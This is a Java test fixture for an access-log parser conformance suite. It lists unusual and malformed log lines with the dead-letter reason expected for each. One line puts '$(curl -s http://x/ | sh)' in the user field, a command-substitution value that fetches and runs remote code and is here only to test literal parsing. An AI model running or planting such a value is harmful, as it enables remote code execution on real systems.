package dev.millrace.conformance;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

/**
 * Lines as real servers, and what lies between them and us, write them, with what must become of
 * each. Written by hand from the documentation of the parser; each character is a byte.
 *
 * @param reason the dead letter's, or "" for a line that counts
 */
record LineOddity(String line, String reason) {
  private static final String AGENT = "\"-\" \"Mozilla/5.0\"";

  static List<LineOddity> all() {
    List<LineOddity> all = new ArrayList<>();
    // Clients, users, absent fields.
    all.add(good("2001:db8::17 - - " + at(0) + " \"GET / HTTP/1.1\" 200 5 " + AGENT));
    all.add(good("host-7.example.org - frank " + at(1) + " \"GET /a HTTP/1.0\" 200 5 " + AGENT));
    all.add(good("192.0.2.1 - John Doe " + at(2) + " \"GET /b HTTP/1.1\" 200 5 " + AGENT));
    all.add(good("192.0.2.1 - $(curl -s http://x/ | sh) " + at(3) + request("/c")));
    all.add(good("192.0.2.1 - [bracket] " + at(4) + request("/d")));
    all.add(good("192.0.2.1 - \\\"quoted\\\" " + at(4) + request("/d?x=[1]")));
    all.add(good("192.0.2.1 - \"\" " + at(4) + request("/empty-user")));
    all.add(dead("192.0.2.1 - \"quoted\" " + at(4) + request("/d"), "wrong-separator"));
    all.add(good("192.0.2.1 - - " + at(5) + " \"GET /e HTTP/1.1\" - - - -"));
    all.add(good("192.0.2.1 - - " + at(5) + " \"GET /e HTTP/1.1\" 0 - \"\" \"\""));
    all.add(good("- - - " + at(6) + " \"GET /no-client HTTP/1.1\" 200 5 " + AGENT));
    // Requests that are none.
    all.add(good("192.0.2.2 - - " + at(7) + " \"-\" 408 0 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(8) + " \"\" 400 0 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(9) + " \"\\x16\\x03\\x01\\x02\\x00\" 400 166 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(10) + " \"\\u0016\\u0003\" 400 166 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(11) + " \"SSH-2.0-Go\" 400 166 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(12) + " \"GET\" 400 166 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(13) + " \"GET /old\" 200 166 \"-\" \"-\""));
    all.add(
        good("192.0.2.2 - - " + at(14) + " \"GET /with space/x y HTTP/1.1\" 404 1 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(14) + " \"GET /tail HTTP/1. \" 400 1 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(14) + " \"GET  HTTP/1.1\" 400 1 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(14) + " \"GET HTTP/1.1\" 400 1 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(14) + " \"GET ?only=query HTTP/1.1\" 400 1 \"-\" \"-\""));
    all.add(good("192.0.2.2 - - " + at(15) + " \"PROPFIND /dav HTTP/2.0\" 207 1 \"-\" \"-\""));
    all.add(
        good(
            "192.0.2.2 - - "
                + at(15)
                + " \"GET http://proxy.example/x HTTP/1.1\" 502 1 \"-\" \"-\""));
    // Escapes.
    all.add(
        good(
            "192.0.2.3 - - "
                + at(16)
                + " \"GET /\\\"q\\\" HTTP/1.1\" 200 5 \"-\" \"a \\\"b\\\" c\""));
    all.add(good("192.0.2.3 - - " + at(17) + " \"GET /back\\\\slash HTTP/1.1\" 200 5 " + AGENT));
    all.add(
        good("192.0.2.3 - - " + at(18) + " \"GET /x HTTP/1.1\" 200 5 \"-\" \"ends with \\\\\""));
    all.add(good("192.0.2.3 - - " + at(19) + " \"GET /x HTTP/1.1\" 200 5 \"-\" \"C:\\dir\\\""));
    all.add(good("192.0.2.3 - - " + at(20) + " \"GET /x\\x20\\xC3\\xA4 HTTP/1.1\" 200 5 " + AGENT));
    all.add(
        good("192.0.2.3 - - " + at(21) + " \"GET /\\t\\n\\q\\xZZ\\x1 HTTP/1.1\" 200 5 " + AGENT));
    all.add(good("192.0.2.3 - - " + at(22) + " \"GET /un\"escaped HTTP/1.1\" 200 5 " + AGENT));
    all.add(good("192.0.2.3 - - " + at(23) + " \"GET /x HTTP/1.1\" 200 5 \"a\" b\" \"c \"d\" e\""));
    all.add(good("192.0.2.3 - - " + at(24) + " \"GET /x HTTP/1.1\" 200 5 \"-\" \"agent is cut of"));
    // Bytes that are not UTF-8, and some that are.
    all.add(good("192.0.2.4 - - " + at(25) + " \"GET /caf\u00e9 HTTP/1.1\" 200 5 " + AGENT));
    all.add(good("192.0.2.4 - - " + at(25) + " \"GET /caf\u00c3\u00a9 HTTP/1.1\" 200 5 " + AGENT));
    all.add(
        good(
            "192.0.2.4 - - "
                + at(26)
                + " \"GET /\u0000\u0001\u00ff\u00fe HTTP/1.1\" 200 5 "
                + AGENT));
    all.add(
        good(
            "192.0.2.4 - - "
                + at(26)
                + " \"GET /\u00f0\u009f\u0098\u0080 HTTP/1.1\" 200 5 \"-\""
                + " \"\u00ed\u00a0\u0080\""));
    // Around the line.
    all.add(good("  \t192.0.2.5 - - " + at(27) + request("/blanks") + " \t "));
    all.add(good("192.0.2.5 - - " + at(27) + request("/cr") + "\r"));
    all.add(good("\"192.0.2.5 - - " + at(28) + request("/outer") + "\""));
    all.add(
        good("192.0.2.5 - - " + at(28) + request("/appended") + " 0.004 \"10.0.0.1, 10.0.0.2\" -"));
    // Times.
    all.add(good("192.0.2.6 - - [31/Dec/2025:23:59:59 -0000] \"GET / HTTP/1.1\" 200 5 " + AGENT));
    all.add(good("192.0.2.6 - - [01/Jan/2026:05:29:59 +0530]" + request("/zone")));
    all.add(good("192.0.2.6 - - [31/Dec/2025:15:14:59 -0845]" + request("/zone")));
    all.add(good("192.0.2.6 - - [29/Feb/2024:12:00:00 +0000]" + request("/leap")));
    all.add(good("192.0.2.6 - - [01/jan/1970:00:00:00 +0000]" + request("/epoch")));
    all.add(good("192.0.2.6 - - [31/Dec/1969:23:59:58 +0000]" + request("/before-epoch")));
    all.add(good("192.0.2.6 - - [2026-01-05T10:00:00+00:00]" + request("/iso")));
    all.add(good("192.0.2.6 - - [2026-01-05T10:00:00.250Z]" + request("/iso")));
    // Statuses and sizes.
    all.add(good("192.0.2.7 - - " + at(30) + " \"GET / HTTP/1.1\" 100 0 " + AGENT));
    all.add(good("192.0.2.7 - - " + at(30) + " \"GET / HTTP/1.1\" 599 0 " + AGENT));
    all.add(good("192.0.2.7 - - " + at(30) + " \"GET / HTTP/1.1\" 999 0 " + AGENT));
    all.add(good("192.0.2.7 - - " + at(30) + " \"GET / HTTP/1.1\" 000 0 " + AGENT));
    all.add(good("192.0.2.7 - - " + at(31) + " \"POST / HTTP/1.1\" 200 9007199254740993 " + AGENT));
    // Dead letters, by the first thing that is wrong.
    all.add(dead("", "empty"));
    all.add(dead(" \t ", "empty"));
    all.add(dead("hello", "missing-field"));
    all.add(dead("192.0.2.8 - - 31/Dec/2025:23:00:00", "missing-field"));
    all.add(dead("192.0.2.8 - - [31/Dec/2025:23:00:00 +0000]", "wrong-separator"));
    all.add(dead("192.0.2.8 - - [yesterday] \"GET / HTTP/1.1\" 200 5 " + AGENT, "bad-time"));
    all.add(dead("192.0.2.8 - - [30/Feb/2025:23:00:00 +0000]" + request("/"), "bad-time"));
    all.add(dead("192.0.2.8 - - [31/Dec/2025:24:00:00 +0000]" + request("/"), "bad-time"));
    all.add(dead("192.0.2.8 - - [31/Dec/2025:23:00:00]" + request("/"), "bad-time"));
    all.add(dead("192.0.2.8 - - " + at(32) + " GET / HTTP/1.1 200 5 " + AGENT, "wrong-separator"));
    all.add(dead("192.0.2.8 - - " + at(32) + " \"GET / HTTP/1.1\" 20x 5 " + AGENT, "bad-status"));
    all.add(dead("192.0.2.8 - - " + at(32) + " \"GET / HTTP/1.1\" 2000 5 " + AGENT, "bad-status"));
    all.add(dead("192.0.2.8 - - " + at(32) + " \"GET / HTTP/1.1\" 200 many " + AGENT, "bad-bytes"));
    all.add(dead("192.0.2.8 - - " + at(32) + " \"GET / HTTP/1.1\" 200 -5 " + AGENT, "bad-bytes"));
    all.add(dead("192.0.2.8 - - " + at(32) + " \"GET / HTTP/1.1\" 200 5", "missing-field"));
    all.add(dead("192.0.2.8 - - " + at(32) + " \"GET / HTTP/1.1\" 200 5 \"-\"", "missing-field"));
    all.add(dead("192.0.2.8 - - " + at(32) + " \"GET / HTTP/1.1 200 5", "unclosed-quote"));
    all.add(dead("caf\u00e9 is no log line", "missing-field"));
    return all;
  }

  private static String at(int second) {
    return "[05/Jan/2026:%02d:%02d:%02d +0000]".formatted(10 + second % 3, second, second);
  }

  private static String request(String target) {
    return " \"GET " + target + " HTTP/1.1\" 200 5 " + AGENT;
  }

  private static LineOddity good(String line) {
    return new LineOddity(line, "");
  }

  private static LineOddity dead(String line, String reason) {
    return new LineOddity(line, reason);
  }

  /** All lines, with this end each. */
  static byte[] file(String lineEnd) {
    StringBuilder text = new StringBuilder();
    all().forEach(oddity -> text.append(oddity.line()).append(lineEnd));
    return text.toString().getBytes(StandardCharsets.ISO_8859_1);
  }
}
